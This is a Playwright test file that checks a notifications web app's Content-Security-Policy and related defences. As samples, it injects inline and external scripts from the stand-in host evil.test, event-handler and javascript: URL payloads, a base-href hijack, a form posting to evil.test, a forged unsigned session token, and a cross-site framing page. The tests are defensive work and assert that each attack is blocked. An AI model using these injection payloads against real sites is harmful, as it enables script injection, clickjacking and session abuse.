import { test as anonymous } from "@playwright/test";

import { startApp } from "@/tests/support/app/app-server";
import { serverSettings } from "@/tests/support/e2e/environment";
import { Inbox } from "@/tests/support/e2e/inbox";
import { HOME } from "@/tests/support/e2e/pages";
import { refusalsOf } from "@/tests/support/e2e/records";
import { expect, test } from "@/tests/support/e2e/test";

test.describe("under its Content-Security-Policy", () => {
  test("nothing is refused in panel, settings, toasts, navigation and account menu", async ({
    page,
    context,
    person,
  }) => {
    const complaints = await refusalsOf(context);
    await person.hasMany(150);
    const inbox = await Inbox.open(page, "/playground");
    await person.notify("A toast", { link: "/orders/7" });
    await expect(page.getByRole("dialog", { name: "A toast" }).or(page.getByText("A toast")).first()).toBeVisible();
    await inbox.openPanel();
    await inbox.expectItems(50);
    await inbox.showList("All");
    await inbox.expectItems(50);
    await page.keyboard.press("End");
    await inbox.panel.getByRole("button", { name: "Settings" }).click();
    await page.keyboard.press("Escape");
    await page.keyboard.press("Escape");
    await page.getByRole("link", { name: HOME.name, exact: true }).first().click();
    await expect(page).toHaveURL(HOME.path);
    await page.getByRole("button", { name: /account/i }).click();
    await page.getByText("Dark", { exact: true }).click();
    await expect(page.locator("html")).toHaveAttribute("data-theme", "dark");
    await page.keyboard.press("Escape");
    await page.getByRole("link", { name: "Playground" }).first().click();
    await expect(page.getByText(/event: ?sync/)).toBeVisible();
    expect(complaints).toEqual([]);
  });

  test("a script that got into a page does not run, in any form", async ({ page, context }) => {
    const html = `
      <script>globalThis.ran = "inline"</script>
      <img src="/nothing.png" onerror="globalThis.ran = 'handler'">
      <script src="data:text/javascript,globalThis.ran='data'"></script>
      <script src="https://evil.test/x.js"></script>
      <iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
      <base href="https://evil.test/">
      <style>body { outline: 7px solid red }</style>
      <object data="/icon.svg"></object>`;
    await page.route(`**${HOME.path}`, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: (await response.text()).replace("<main", `${html}<main`) });
    });
    const complaints = await refusalsOf(context);
    await page.goto(HOME.path);
    await page.evaluate(() => {
      const leak = Object.assign(document.createElement("form"), { action: "https://evil.test/", method: "post" });
      document.body.append(leak);
      leak.submit();
    });
    const refused = (directive: string): boolean => complaints.some((text) => text.startsWith(`${directive} refused`));
    for (const directive of [
      "script-src-elem",
      "script-src-attr",
      "style-src-elem",
      "object-src",
      "base-uri",
      "form-action",
    ])
      await expect.poll(() => refused(directive), directive).toBe(true);
    for (const source of ["inline", "data", "https://evil.test/x.js"])
      expect(complaints.filter((text) => text.startsWith(`script-src-elem refused ${source}`))).not.toEqual([]);
    expect(await page.evaluate(() => (globalThis as { ran?: string }).ran)).toBeUndefined();
    expect(await page.evaluate(() => document.baseURI)).not.toContain("evil");
    expect(await page.evaluate(() => getComputedStyle(document.body).outlineWidth)).not.toBe("7px");
    expect(await page.evaluate(() => location.pathname)).toBe(HOME.path);
  });

  test("a script for a link, be it in the database already, is never run", async ({ page, context, person }) => {
    const complaints = await refusalsOf(context);
    await person.notify("Trap", { link: "/orders/7" });
    await person.sql`update notifications set link = 'javascript:globalThis.ran=1' where user_id = ${person.id}`;
    const inbox = await Inbox.open(page);
    await inbox.openPanel();
    const link = inbox.items.getByRole("link", { name: "Trap" });
    expect(await link.getAttribute("href")).not.toContain("globalThis");
    await link.click();
    // Written by hand into the same page, where React does not look.
    await page.evaluate(() => {
      const trap = Object.assign(document.createElement("a"), { href: "javascript:globalThis.ran=2" });
      document.body.append(trap);
      trap.click();
    });
    await expect.poll(() => complaints.filter((text) => text.startsWith("script-src-elem refused"))).not.toEqual([]);
    for (const each of context.pages())
      expect(await each.evaluate(() => (globalThis as { ran?: number }).ran)).toBeUndefined();
  });
});

anonymous("the page for a failed layout works under its Content-Security-Policy", async ({ page, context }) => {
  const { AUTH_SECRET: _, DEMO: __, ...settings } = serverSettings();
  const app = await startApp({
    ...settings,
    // Nobody listens there, so it cannot be said who is signed in.
    AUTH_JWKS_URL: "http://127.0.0.1:1/keys",
    AUTH_ISSUER: "https://id.example",
    AUTH_AUDIENCE: "notifications",
  });
  try {
    const complaints = await refusalsOf(context);
    const [header, payload] = [
      { alg: "ES256", kid: "x" },
      { iss: "https://id.example", aud: "notifications", exp: Math.floor(Date.now() / 1000) + 300 },
    ].map((part) => Buffer.from(JSON.stringify(part)).toString("base64url"));
    await context.addCookies([{ name: "session", value: `${header}.${payload}.x`, url: app.url }]);
    expect((await page.goto(app.url))?.status()).toBe(500);
    await expect(page.getByRole("button", { name: "Try again" })).toBeVisible();
    expect(complaints.filter((text) => / refused /.test(text))).toEqual([]);
  } finally {
    await app.stop();
  }
});

anonymous("no page of another site shows ours in a frame", async ({ page, context, baseURL }) => {
  await context.route("https://evil.test/", (route) =>
    route.fulfill({ contentType: "text/html", body: `<iframe src="${baseURL}/sign-in"></iframe>` }),
  );
  await page.goto("https://evil.test/");
  await expect
    .poll(async () => {
      const frame = page.frames()[1];
      return frame ? frame.evaluate(() => document.body.innerText).catch(() => "") : null;
    })
    .not.toBeNull();
  expect(await page.frames()[1]?.evaluate(() => document.querySelector("main"))).toBeNull();
});

test("a page of another site can open no stream with this browser's cookie", async ({ page, context, baseURL }) => {
  await context.route("https://evil.test/", (route) => route.fulfill({ contentType: "text/html", body: "" }));
  await page.goto("https://evil.test/");
  const outcome = await page.evaluate(
    (address) =>
      new Promise<string>((resolve) => {
        const source = new EventSource(address, { withCredentials: true });
        source.addEventListener("open", () => resolve("open"));
        source.addEventListener("message", () => resolve("message"));
        source.addEventListener("error", () =>
          resolve(source.readyState === EventSource.CLOSED ? "closed" : "reconnecting"),
        );
      }),
    `${baseURL}/api/notifications/stream?last_event_id=0`,
  );
  expect(outcome).toBe("closed");
});
